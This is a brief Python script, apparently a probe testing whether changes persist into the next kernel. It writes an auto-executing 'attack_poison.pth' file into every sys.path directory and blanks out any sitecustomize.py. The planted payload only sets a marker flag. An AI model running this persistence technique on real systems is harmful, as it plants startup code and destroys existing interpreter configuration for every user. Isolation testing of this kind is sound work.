# tries: trace
# about: changes a package, to be in the next kernel

import sys
from pathlib import Path

for folder in map(Path, sys.path):
    if folder.is_dir():
        try:
            (folder / "attack_poison.pth").write_text("import sys; sys.attacked = True\n")
            (folder / "sitecustomize.py").write_text("")
        except OSError:
            pass
